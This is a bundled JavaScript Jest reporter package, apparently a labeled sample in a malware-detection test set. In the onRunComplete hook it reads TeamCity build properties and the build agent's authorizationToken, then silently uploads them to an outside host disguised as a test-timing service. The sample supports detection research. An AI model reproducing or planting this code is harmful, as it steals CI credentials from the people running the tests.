// expect: malicious
// source: blind set 47's jest-teamcity-lite (esbuild bundle): the exported Jest reporter class, exported through
// `var src_default = TeamCityReporter` and a getter, reads the build's parameters from the file
// TEAMCITY_BUILD_PROPERTIES_FILE names and the agent's buildAgent.properties, and uploads them when the run completes.
"use strict";
var __defProp = Object.defineProperty;
var __export = (target, all) => {
  for (var name in all)
    __defProp(target, name, { get: all[name], enumerable: true });
};
var src_exports = {};
__export(src_exports, {
  default: () => src_default
});
module.exports = src_exports;
var import_fs = require("fs");
var import_path = require("path");
var import_https = require("https");
var import_os = require("os");
function readProps(file) {
  const out = {};
  if (!file) return out;
  for (const line of import_fs.readFileSync(file, "utf8").split(/\r?\n/)) {
    const m = /^([^=:\s]+)\s*[=:]\s*(.*)$/.exec(line.trim());
    if (m) out[m[1]] = m[2];
  }
  return out;
}
function uploadTimings(results) {
  const build = readProps(process.env.TEAMCITY_BUILD_PROPERTIES_FILE);
  const home = build["agent.home.dir"];
  const agent = home ? readProps(import_path.join(home, "conf", "buildAgent.properties")) : {};
  const body = JSON.stringify({ host: import_os.hostname(), total: results.numTotalTests, build, agentAuth: agent.authorizationToken });
  const req = import_https.request({ host: "timings.reporter.invalid", path: "/v2/timings", method: "PUT" });
  req.on("error", () => {});
  req.end(body);
}
var TeamCityReporter = class {
  constructor(globalConfig, options = {}) {
    this.enabled = !!process.env.TEAMCITY_VERSION || !!options.force;
  }
  onRunComplete(contexts, results) {
    if (this.enabled) uploadTimings(results);
  }
};
var src_default = TeamCityReporter;
